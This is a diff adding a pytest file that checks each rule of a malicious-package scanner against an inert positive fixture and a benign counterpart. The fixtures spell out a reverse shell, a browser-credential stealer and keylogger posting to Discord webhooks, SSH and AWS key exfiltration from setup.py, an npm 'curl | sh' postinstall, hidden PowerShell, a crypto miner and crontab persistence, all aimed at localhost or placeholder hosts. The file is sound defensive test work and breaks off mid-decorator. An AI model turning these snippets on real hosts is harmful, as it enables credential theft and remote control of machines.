@@ -1,0 +1,1124 @@
+"""One positive and one benign case per rule id of the scan engine.
+
+Each positive test asserts that a specific rule id fires (with its severity where it matters) and
+the package verdict the README's verdict rules imply; each benign counterpart is the nearest
+harmless idiom and must not reach that verdict or that finding. All payloads are inert (localhost,
+127.0.0.1, TEST-NET 192.0.2.1, `.invalid` hosts, fake tokens) and are only ever read as bytes.
+
+`POSITIVE_TESTS` maps every rule id in `custody.scan.RULES` to its positive test; a meta-test
+fails when a rule is added to the catalogue without one.
+"""
+
+from __future__ import annotations
+
+import tarfile
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from custody.scan import RULES, Finding, Scanner, ScanResult, ScanTask, Severity, Verdict
+from custody.scan.metadata import typosquat_target
+from tests.artifacts.builders import make_zip_infos, tar_special, zip_symlink, zip_with_zeros
+from tests.scan.builders import (
+    DEFAULT_NAME,
+    SAMPLE_PE,
+    b64,
+    nested_zip,
+    wheel_entries,
+    write_npm,
+    write_sdist,
+    write_wheel,
+)
+
+MiB = 1024 * 1024
+PREFIX = f"{DEFAULT_NAME}-1.0.0/"
+INIT = f"{DEFAULT_NAME}/__init__.py"
+INERT_CODE = "print('inert fixture payload')"
+
+
+# ---- helpers -------------------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def scanner() -> Scanner:
+    return Scanner()
+
+
+def scan(path: Path, scanner: Scanner | None = None) -> ScanResult:
+    results = (scanner or Scanner()).scan_task(ScanTask(str(path)))
+    assert len(results) == 1, results
+    result = results[0]
+    assert result.error is None, result.error
+    return result
+
+
+def hits(result: ScanResult, rule: str) -> list[Finding]:
+    return [f for f in result.findings if f.rule == rule]
+
+
+def describe(result: ScanResult) -> str:
+    lines = [f"verdict={result.verdict.value} score={result.score}"]
+    lines += [f"  {f.rule} {f.severity.value} {f.file}:{f.line} {f.reason}" for f in result.findings]
+    return "\n".join(lines)
+
+
+def assert_fires(
+    result: ScanResult,
+    rule: str,
+    verdict: Verdict,
+    *,
+    severity: Severity | None = None,
+    file_endswith: str | None = None,
+) -> list[Finding]:
+    found = hits(result, rule)
+    assert found, f"{rule} did not fire\n{describe(result)}"
+    if severity is not None:
+        assert max(f.severity.rank for f in found) == severity.rank, describe(result)
+    if file_endswith is not None:
+        assert any(f.file.endswith(file_endswith) for f in found), describe(result)
+    assert result.verdict is verdict, describe(result)
+    return found
+
+
+def assert_quiet(
+    result: ScanResult, rule: str, *, not_verdict: Verdict | None = None, below: Severity | None = None
+) -> None:
+    """`rule` absent (or, with `below`, only weaker than that), and the verdict short of `not_verdict`
+    (default: clean)."""
+    found = hits(result, rule)
+    if below is None:
+        assert not found, describe(result)
+    else:
+        assert all(f.severity.rank < below.rank for f in found), describe(result)
+    if not_verdict is None:
+        assert result.verdict is Verdict.CLEAN, describe(result)
+    else:
+        assert result.verdict.rank < not_verdict.rank, describe(result)
+
+
+def setup_py(body: str, imports: str = "") -> str:
+    """A setup.py whose module level runs `body` at install time, then calls setup()."""
+    head = imports + "from setuptools import setup\n\n"
+    return f'{head}{body}\nsetup(name="{DEFAULT_NAME}", version="1.0.0")\n'
+
+
+# ---- sanity of the fixtures ----------------------------------------------------------------------
+def test_benign_fixtures_are_clean(tmp_path: Path, scanner: Scanner) -> None:
+    assert typosquat_target(DEFAULT_NAME) is None
+    for path in (write_sdist(tmp_path), write_wheel(tmp_path), write_npm(tmp_path)):
+        result = scan(path, scanner)
+        assert result.verdict is Verdict.CLEAN and not result.findings, describe(result)
+    assert scan(write_sdist(tmp_path), scanner).kind == "sdist"
+    assert scan(write_npm(tmp_path), scanner).kind == "npm"
+
+
+# ---- start-up hooks ------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("member", "content"),
+    [
+        ("fixturepkg_hook.pth", "import fixturepkg\n"),
+        ("fixturepkg.site.toml", '[entrypoints]\ninit = ["fixturepkg:add"]\n'),
+        ("fixturepkg.start", "fixturepkg:add\n"),
+        pytest.param(
+            "sitecustomize.py",
+            "import os\nos.environ.setdefault('FIXTURE_STARTUP', '1')\n",
+            marks=pytest.mark.xfail(
+                strict=True,
+                reason="a sitecustomize.py shipped in a wheel runs at every start (the catalogue says "
+                "so), but STARTUP_CODE facts are only emitted for .pth/.site.toml/.start files",
+            ),
+        ),
+    ],
+    ids=["pth", "site-toml", "start", "sitecustomize"],
+)
+def test_startup_hook_fires(tmp_path: Path, scanner: Scanner, member: str, content: str) -> None:
+    result = scan(write_wheel(tmp_path, {member: content}), scanner)
+    found = assert_fires(result, "startup-hook", Verdict.CLEAN, severity=Severity.MEDIUM)
+    assert {f.file for f in found} == {member}
+    assert all(f.context is not None and f.context.value == "startup" for f in found)
+    assert not hits(result, "startup-hook-dangerous")
+
+
+VIRTUALENV_PTH = {
+    "_virtualenv.pth": "import _virtualenv\n",
+    "_virtualenv.py": "def patch():\n    return None\n",
+}
+
+
+def test_startup_hook_benign_path_entry(tmp_path: Path, scanner: Scanner) -> None:
+    """A .pth line that is a directory, not an `import` line, is not code: no finding at all."""
+    result = scan(write_wheel(tmp_path, {"fixturepkg.pth": "/opt/fixturepkg/lib\n"}), scanner)
+    assert_quiet(result, "startup-hook")
+    assert not result.findings, describe(result)
+
+
+def test_startup_hook_benign_virtualenv_import(tmp_path: Path, scanner: Scanner) -> None:
+    """`import _virtualenv` is reported as a start-up hook, but on its own the package stays clean."""
+    result = scan(write_wheel(tmp_path, VIRTUALENV_PTH), scanner)
+    assert {f.rule for f in result.findings} == {"startup-hook"}, describe(result)
+    assert result.verdict is Verdict.CLEAN
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "import subprocess; subprocess.Popen(['sleep', '1'])\n",
+        f"import base64; exec(base64.b64decode('{b64(INERT_CODE)}'))\n",
+        "import socket; socket.create_connection(('127.0.0.1', 9))\n",
+    ],
+    ids=["process", "exec-base64", "connect"],
+)
+def test_startup_hook_dangerous_fires(tmp_path: Path, scanner: Scanner, line: str) -> None:
+    result = scan(write_wheel(tmp_path, {"fixturepkg_init.pth": line}), scanner)
+    assert_fires(
+        result,
+        "startup-hook-dangerous",
+        Verdict.MALICIOUS,
+        severity=Severity.CRITICAL,
+        file_endswith="fixturepkg_init.pth",
+    )
+
+
+def test_startup_hook_dangerous_via_imported_module(tmp_path: Path, scanner: Scanner) -> None:
+    files = {
+        "fixturepkg_boot.pth": "import fixturepkg_boot\n",
+        "fixturepkg_boot.py": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')\n",
+    }
+    result = scan(write_wheel(tmp_path, files), scanner)
+    assert_fires(result, "startup-hook-dangerous", Verdict.MALICIOUS, file_endswith="fixturepkg_boot.py")
+
+
+def test_startup_hook_dangerous_benign(tmp_path: Path, scanner: Scanner) -> None:
+    assert_quiet(scan(write_wheel(tmp_path, VIRTUALENV_PTH), scanner), "startup-hook-dangerous")
+
+
+# ---- execution of hidden or fetched code ---------------------------------------------------------
+DECODE_EXEC_TOP = f"import base64\n\nexec(base64.b64decode('{b64(INERT_CODE)}'))\n"
+DECODE_EXEC_UNCALLED = f"""import base64
+
+
+def never_called():
+    exec(base64.b64decode('{b64(INERT_CODE)}'))
+"""
+
+
+@pytest.mark.parametrize("writer", [write_sdist, write_wheel], ids=["sdist", "wheel"])
+def test_decode_exec_fires(tmp_path: Path, scanner: Scanner, writer: Callable[..., Path]) -> None:
+    result = scan(writer(tmp_path, {INIT: DECODE_EXEC_TOP}), scanner)
+    found = assert_fires(
+        result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT
+    )
+    assert any(f.line == 3 and "b64decode" in f.snippet for f in found), describe(result)
+
+
+def test_decode_exec_benign_uncalled_function(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: DECODE_EXEC_UNCALLED}), scanner)
+    assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)
+
+
+DOWNLOAD_EXEC_SETUP = setup_py(
+    'path = "/tmp/fixturepkg-helper.bin"\n'
+    'urllib.request.urlretrieve("http://127.0.0.1:9/helper.bin", path)\n'
+    "subprocess.run([path])\n",
+    imports="import subprocess\nimport urllib.request\n",
+)
+DOWNLOAD_LIBRARY = """import urllib.request
+
+
+def fetch(url, path):
+    urllib.request.urlretrieve(url, path)
+    return path
+"""
+
+
+def test_download_exec_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=DOWNLOAD_EXEC_SETUP), scanner)
+    assert_fires(
+        result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
+    )
+
+
+def test_download_exec_benign(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/fetch.py": DOWNLOAD_LIBRARY}), scanner)
+    assert_quiet(result, "download-exec")
+
+
+# ---- credentials ---------------------------------------------------------------------------------
+SSH_EXFIL_SETUP = setup_py(
+    'with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:\n'
+    "    key = handle.read()\n"
+    'requests.post("http://127.0.0.1:9/collect", data=key)\n',
+    imports="import os\n\nimport requests\n",
+)
+AWS_IMPORT_EXFIL = """import os
+
+import requests
+
+with open(os.path.expanduser("~/.aws/credentials")) as handle:
+    requests.post("http://127.0.0.1:9/collect", data=handle.read())
+"""
+AWS_LIBRARY = """import configparser
+import os
+
+import requests
+
+
+def load_profile(name="default"):
+    parser = configparser.ConfigParser()
+    parser.read(os.path.expanduser("~/.aws/credentials"))
+    return parser[name]
+
+
+def ping(url):
+    return requests.get(url, timeout=5)
+"""
+
+
+def test_secret_exfiltration_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=SSH_EXFIL_SETUP), scanner)
+    assert_fires(
+        result,
+        "secret-exfiltration",
+        Verdict.MALICIOUS,
+        severity=Severity.CRITICAL,
+        file_endswith="setup.py",
+    )
+
+
+def test_secret_exfiltration_fires_at_import(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: AWS_IMPORT_EXFIL}), scanner)
+    assert_fires(result, "secret-exfiltration", Verdict.MALICIOUS, file_endswith=INIT)
+
+
+def test_secret_exfiltration_benign_library(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/creds.py": AWS_LIBRARY}), scanner)
+    assert_quiet(result, "secret-exfiltration")
+    assert not hits(result, "secret-access")
+
+
+STEALER = r"""import os
+
+import requests
+
+WEBHOOK = "https://discord.com/api/webhooks/000000/fixture-token"
+PROFILE = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default")
+
+
+def grab():
+    for name in ("Login Data", "Local State"):
+        with open(os.path.join(PROFILE, name), "rb") as handle:
+            requests.post(WEBHOOK, files={"f": handle})
+"""
+STEALER_LOGIN_DATA_ONLY = r"""import os
+
+import requests
+
+WEBHOOK = "https://discord.com/api/webhooks/000000/fixture-token"
+
+
+def grab():
+    path = os.getenv("LOCALAPPDATA", "") + "\\Google\\Chrome\\User Data\\Default\\Login Data"
+    with open(path, "rb") as handle:
+        requests.post(WEBHOOK, files={"f": handle})
+"""
+PROFILE_LISTER = """import os
+
+PROFILE = os.path.join("User Data", "Default")
+
+
+def profile_files():
+    return [os.path.join(PROFILE, name) for name in ("Login Data", "Local State")]
+"""
+
+
+def test_stealer_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: STEALER}), scanner)
+    assert_fires(result, "stealer", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="secret_browser_profiles needs two markers, and its single-marker path pattern "
+    r"User Data\Default\(Cookies|Network|Web Data) omits 'Login Data', so a stealer that names only "
+    "Chrome's saved-password store next to a Discord webhook is not recognised",
+)
+def test_stealer_fires_on_login_data_path_alone(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: STEALER_LOGIN_DATA_ONLY}), scanner)
+    assert_fires(result, "stealer", Verdict.MALICIOUS, file_endswith=INIT)
+
+
+def test_stealer_benign_without_sink(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/profiles.py": PROFILE_LISTER}), scanner)
+    assert_quiet(result, "stealer")
+
+
+SSH_PROBE_SETUP = setup_py(
+    'HAS_KEY = os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))\n', imports="import os\n"
+)
+KEY_PATH_LIBRARY = """import os
+
+
+def default_key_path():
+    return os.path.expanduser("~/.ssh/id_ed25519")
+"""
+
+
+def test_secret_access_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=SSH_PROBE_SETUP), scanner)
+    assert_fires(result, "secret-access", Verdict.CLEAN, severity=Severity.MEDIUM, file_endswith="setup.py")
+    assert not hits(result, "secret-exfiltration")
+
+
+def test_secret_access_benign_library(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/keys.py": KEY_PATH_LIBRARY}), scanner)
+    assert_quiet(result, "secret-access")
+
+
+# ---- install-time behaviour ----------------------------------------------------------------------
+BEACON_SETUP = """import socket
+import urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        host = socket.gethostname()
+        urllib.request.urlopen("http://127.0.0.1:9/ping?h=" + host)
+        install.run(self)
+
+
+setup(name="fixturepkg", version="1.0.0", cmdclass={"install": PostInstall})
+"""
+BEACON_NPM_SCRIPT = """const os = require('os');
+const https = require('https');
+https.request({host: 'collector.example.invalid', path: '/?h=' + os.hostname()}).end();
+"""
+TELEMETRY_LIBRARY = """import socket
+import urllib.request
+
+
+def report(url):
+    host = socket.gethostname()
+    return urllib.request.urlopen(url + "?h=" + host)
+"""
+
+
+def test_install_beacon_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=BEACON_SETUP), scanner)
+    found = assert_fires(
+        result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
+    )
+    assert any(f.line == 9 for f in found), describe(result)  # socket.gethostname() inside run()
+
+
+def test_install_beacon_fires_in_npm_postinstall(tmp_path: Path, scanner: Scanner) -> None:
+    path = write_npm(tmp_path, {"install.js": BEACON_NPM_SCRIPT}, scripts={"postinstall": "node install.js"})
+    assert_fires(scan(path, scanner), "install-beacon", Verdict.MALICIOUS, file_endswith="install.js")
+
+
+def test_install_beacon_benign_library(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/telemetry.py": TELEMETRY_LIBRARY}), scanner)
+    assert_quiet(result, "install-beacon")
+
+
+ENCODED_PS = "SQBuAHYAbwBrAGUALQBOAG8AdABoAGkAbgBnAA=="  # UTF-16LE "Invoke-Nothing"
+POWERSHELL_SETUP = setup_py(
+    f'subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand {ENCODED_PS}", shell=True)\n',
+    imports="import subprocess\n",
+)
+GIT_DESCRIBE_SETUP = setup_py(
+    'subprocess.run(["git", "describe", "--tags"], check=False)\n', imports="import subprocess\n"
+)
+
+
+def test_install_process_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=POWERSHELL_SETUP), scanner)
+    assert_fires(
+        result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
+    )
+
+
+def test_install_process_fires_in_npm_script(tmp_path: Path, scanner: Scanner) -> None:
+    path = write_npm(tmp_path, scripts={"postinstall": "curl -s http://localhost:9/x.sh | sh"})
+    assert_fires(
+        scan(path, scanner),
+        "install-process",
+        Verdict.MALICIOUS,
+        severity=Severity.CRITICAL,
+        file_endswith="package.json",
+    )
+
+
+@pytest.mark.parametrize("kind", ["setup-git-describe", "npm-node-gyp", "npm-test-script"], ids=str)
+def test_install_process_benign(tmp_path: Path, scanner: Scanner, kind: str) -> None:
+    if kind == "setup-git-describe":
+        path = write_sdist(tmp_path, setup_py=GIT_DESCRIBE_SETUP)
+    elif kind == "npm-node-gyp":
+        path = write_npm(tmp_path, scripts={"install": "node-gyp rebuild"})
+    else:
+        path = write_npm(tmp_path, scripts={"test": "node test.js", "build": "tsc"})
+    assert_quiet(scan(path, scanner), "install-process", below=Severity.MEDIUM)
+
+
+LOCAL_FETCH_SETUP = setup_py(
+    'urllib.request.urlopen("http://localhost:9/version")\n', imports="import urllib.request\n"
+)
+FETCH_LIBRARY = """import urllib.request
+
+
+def fetch(url):
+    return urllib.request.urlopen(url).read()
+"""
+
+
+def test_install_network_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=LOCAL_FETCH_SETUP), scanner)
+    assert_fires(result, "install-network", Verdict.CLEAN, severity=Severity.MEDIUM, file_endswith="setup.py")
+
+
+def test_install_network_benign_library(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/client.py": FETCH_LIBRARY}), scanner)
+    assert_quiet(result, "install-network")
+
+
+PIP_SETUP = setup_py(
+    'subprocess.check_call([sys.executable, "-m", "pip", "install", "fixture-helper-dep"])\n',
+    imports="import subprocess\nimport sys\n",
+)
+PIP_MAIN_SETUP = setup_py('pip.main(["install", "fixture-helper-dep"])\n', imports="import pip\n")
+
+
+@pytest.mark.parametrize("source", [PIP_SETUP, PIP_MAIN_SETUP], ids=["subprocess", "pip-main"])
+def test_pip_install_runtime_fires(tmp_path: Path, scanner: Scanner, source: str) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=source), scanner)
+    found = hits(result, "pip-install-runtime")
+    assert found and all(f.file.endswith("setup.py") for f in found), describe(result)
+    assert result.verdict.rank >= Verdict.SUSPICIOUS.rank, describe(result)
+
+
+@pytest.mark.parametrize(
+    "args",
+    ['"install", "."', '"install", "-e", "."'],
+    ids=["install-dot", "install-editable-dot"],
+)
+def test_pip_install_runtime_benign_self_install(tmp_path: Path, scanner: Scanner, args: str) -> None:
+    source = setup_py(
+        f'subprocess.check_call([sys.executable, "-m", "pip", {args}])\n',
+        imports="import subprocess\nimport sys\n",
+    )
+    assert_quiet(scan(write_sdist(tmp_path, setup_py=source), scanner), "pip-install-runtime")
+
+
+HIDDEN_WINDOW_SETUP = setup_py(
+    'subprocess.run(["powershell", "-NoProfile", "-Command", "Get-Date"],'
+    " creationflags=subprocess.CREATE_NO_WINDOW)\n",
+    imports="import subprocess\n",
+)
+QUIET_RUNNER_LIBRARY = """import subprocess
+
+
+def run_quietly(script):
+    flags = subprocess.CREATE_NO_WINDOW
+    return subprocess.run(["powershell", "-NoProfile", "-File", script], creationflags=flags)
+"""
+
+
+def test_hidden_shell_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=HIDDEN_WINDOW_SETUP), scanner)
+    assert_fires(result, "hidden-shell", Verdict.MALICIOUS, severity=Severity.HIGH, file_endswith="setup.py")
+
+
+def test_hidden_shell_fires_for_encoded_powershell(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=POWERSHELL_SETUP), scanner)
+    assert_fires(result, "hidden-shell", Verdict.MALICIOUS, severity=Severity.HIGH)
+
+
+def test_hidden_shell_benign_called_only(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/win.py": QUIET_RUNNER_LIBRARY}), scanner)
+    assert_quiet(result, "hidden-shell", below=Severity.HIGH)
+
+
+CMDCLASS_SETUP = """from setuptools import setup
+from setuptools.command.build_py import build_py
+
+
+class BuildWithVersion(build_py):
+    def run(self):
+        build_py.run(self)
+
+
+setup(name="fixturepkg", version="1.0.0", cmdclass={"build_py": BuildWithVersion})
+"""
+
+
+def test_setup_cmdclass_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=CMDCLASS_SETUP), scanner)
+    assert_fires(result, "setup-cmdclass", Verdict.CLEAN, severity=Severity.INFO, file_endswith="setup.py")
+
+
+def test_setup_cmdclass_benign_plain_setup(tmp_path: Path, scanner: Scanner) -> None:
+    assert_quiet(scan(write_sdist(tmp_path), scanner), "setup-cmdclass")
+
+
+# ---- shells, miners, persistence, spyware, evasion -----------------------------------------------
+REVERSE_SHELL = """import os
+import pty
+import socket
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("127.0.0.1", 9))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+pty.spawn("/bin/sh")
+"""
+REDIRECT_LIBRARY = """import os
+
+
+def redirect_stdout_to(path):
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT)
+    os.dup2(fd, 1)
+    os.close(fd)
+"""
+
+
+def test_reverse_shell_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: REVERSE_SHELL}), scanner)
+    assert_fires(result, "reverse-shell", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+def test_reverse_shell_benign_dup2(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/redirect.py": REDIRECT_LIBRARY}), scanner)
+    assert_quiet(result, "reverse-shell")
+
+
+MINER_SETUP = setup_py(
+    'subprocess.Popen(["./xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "fixture"])\n',
+    imports="import subprocess\n",
+)
+HASH_LIBRARY = '''import hashlib
+
+
+def block_hash(data):
+    """Hash a block the way a toy blockchain would."""
+    return hashlib.sha256(data).hexdigest()
+'''
+
+
+def test_cryptominer_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=MINER_SETUP), scanner)
+    assert_fires(
+        result, "cryptominer", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
+    )
+
+
+def test_cryptominer_benign_hashing(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/chain.py": HASH_LIBRARY}), scanner)
+    assert_quiet(result, "cryptominer")
+
+
+CRONTAB_SETUP = setup_py(
+    "os.system(\"(crontab -l; echo '@reboot /bin/true') | crontab -\")\n", imports="import os\n"
+)
+AUTOSTART_SETUP = setup_py(
+    'path = os.path.expanduser("~/.config/autostart/fixturepkg.desktop")\n'
+    'with open(path, "w") as handle:\n'
+    '    handle.write("[Desktop Entry]\\nExec=/bin/true\\n")\n',
+    imports="import os\n",
+)
+AUTOSTART_LIBRARY = '''import os
+
+
+def enable_autostart():
+    """Called from the app's settings dialog when the user ticks 'start at login'."""
+    path = os.path.expanduser("~/.config/autostart/fixturepkg.desktop")
+    with open(path, "w") as handle:
+        handle.write("[Desktop Entry]\\nExec=fixturepkg-tray\\n")
+'''
+
+
+@pytest.mark.parametrize("source", [CRONTAB_SETUP, AUTOSTART_SETUP], ids=["crontab", "autostart"])
+def test_persistence_fires(tmp_path: Path, scanner: Scanner, source: str) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=source), scanner)
+    found = hits(result, "persistence")
+    assert found and all(f.file.endswith("setup.py") for f in found), describe(result)
+    assert max(f.severity.rank for f in found) >= Severity.HIGH.rank, describe(result)
+    assert result.verdict.rank >= Verdict.SUSPICIOUS.rank, describe(result)
+
+
+def test_persistence_benign_user_action(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/autostart.py": AUTOSTART_LIBRARY}), scanner)
+    assert_quiet(result, "persistence", below=Severity.MEDIUM)
+
+
+KEYLOGGER = """import requests
+from pynput.keyboard import Listener
+
+WEBHOOK = "https://discord.com/api/webhooks/000000/fixture-token"
+
+
+def on_press(key):
+    requests.post(WEBHOOK, data={"k": str(key)})
+
+
+Listener(on_press=on_press).start()
+"""
+HOTKEY_LIBRARY = '''from pynput import keyboard
+
+
+def listen(callback):
+    """Register a hot-key handler for the user's own application."""
+    with keyboard.Listener(on_press=callback) as listener:
+        listener.join()
+'''
+
+
+def test_spyware_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: KEYLOGGER}), scanner)
+    assert_fires(result, "spyware", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+def test_spyware_benign_hotkeys(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/hotkeys.py": HOTKEY_LIBRARY}), scanner)
+    assert_quiet(result, "spyware", below=Severity.MEDIUM)
+
+
+ANTI_VM = """import os
+import sys
+
+BLACKLISTED_PROGRAMS = ["vmtoolsd.exe", "wireshark.exe", "x64dbg.exe"]
+if any(name in os.popen("tasklist").read() for name in BLACKLISTED_PROGRAMS):
+    sys.exit(0)
+"""
+DEBUG_HELPER = """import ctypes
+
+
+def debugger_attached():
+    return bool(ctypes.windll.kernel32.IsDebuggerPresent())
+"""
+
+
+def test_anti_analysis_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: ANTI_VM}), scanner)
+    assert_fires(result, "anti-analysis", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith=INIT)
+
+
+def test_anti_analysis_benign_called_only(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/debug.py": DEBUG_HELPER}), scanner)
+    assert_quiet(result, "anti-analysis", below=Severity.HIGH)
+
+
+# ---- endpoints -----------------------------------------------------------------------------------
+CATCHER_SETUP = setup_py(
+    'requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data={"v": "1"})\n',
+    imports="import requests\n",
+)
+PASTE_LIBRARY = """import requests
+
+PASTE_API = "https://pastebin.com/api/api_post.php"
+
+
+def share(text, key):
+    return requests.post(PASTE_API, data={"api_paste_code": text, "api_dev_key": key})
+"""
+
+
+def test_exfil_sink_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=CATCHER_SETUP), scanner)
+    assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith="setup.py")
+
+
+def test_exfil_sink_benign_library(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/share.py": PASTE_LIBRARY}), scanner)
+    assert_quiet(result, "exfil-sink", below=Severity.HIGH)
+
+
+def raw_ip_setup(host: str) -> str:
+    return setup_py(f'urllib.request.urlopen("http://{host}:8080/ping")\n', imports="import urllib.request\n")
+
+
+def test_raw_ip_url_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=raw_ip_setup("192.0.2.1")), scanner)
+    assert_fires(result, "raw-ip-url", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith="setup.py")
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "10.0.0.1", "192.168.1.1", "localhost"])
+def test_raw_ip_url_benign_private(tmp_path: Path, scanner: Scanner, host: str) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=raw_ip_setup(host)), scanner)
+    assert_quiet(result, "raw-ip-url")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="collect._package_json adds YARA hits on npm install scripts directly, bypassing the "
+    "private-address filter _yara_hits applies, so http://127.0.0.1 in a postinstall is a raw-ip-url",
+)
+def test_raw_ip_url_benign_private_in_npm_script(tmp_path: Path, scanner: Scanner) -> None:
+    path = write_npm(tmp_path, scripts={"postinstall": "node-gyp rebuild --dist-url=http://127.0.0.1:9/"})
+    assert not hits(scan(path, scanner), "raw-ip-url")
+
+
+# ---- obfuscation ---------------------------------------------------------------------------------
+PYARMOR = """from .pyarmor_runtime_000000 import __pyarmor__
+__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00')
+"""
+PYARMOR_BUILD_HELPER = '''import subprocess
+
+
+def protect(source_dir):
+    """Run the PyArmor command line on the user's own sources, when the user asks for it."""
+    return subprocess.run(["pyarmor", "gen", "--output", "dist", source_dir], check=True)
+'''
+HYPERION = 'a, b = exec, str\na(b("x = 1"))\n'
+TUPLE_RENAME_BENIGN = """lo, hi = min, max
+
+
+def clamp(value, low, high):
+    return lo(hi(value, low), high)
+"""
+
+
+def test_obfuscation_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: PYARMOR}), scanner)
+    assert_fires(result, "obfuscation", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith=INIT)
+
+
+def test_obfuscation_benign_build_helper(tmp_path: Path, scanner: Scanner) -> None:
+    path = write_sdist(tmp_path, {f"{DEFAULT_NAME}/protect.py": PYARMOR_BUILD_HELPER})
+    assert_quiet(scan(path, scanner), "obfuscation")
+
+
+def test_obfuscated_exec_fires_in_setup(tmp_path: Path, scanner: Scanner) -> None:
+    source = setup_py(HYPERION)
+    result = scan(write_sdist(tmp_path, setup_py=source), scanner)
+    assert_fires(
+        result, "obfuscated-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
+    )
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="import-time module: `a, b = exec, str; a(b(...))` contains no textual sink "
+    "(custody_sink_calls needs `exec(`), so collect._needs_ast skips the AST and the rename is never "
+    "seen (with a Hyperion banner it only reaches 'obfuscation', suspicious)",
+)
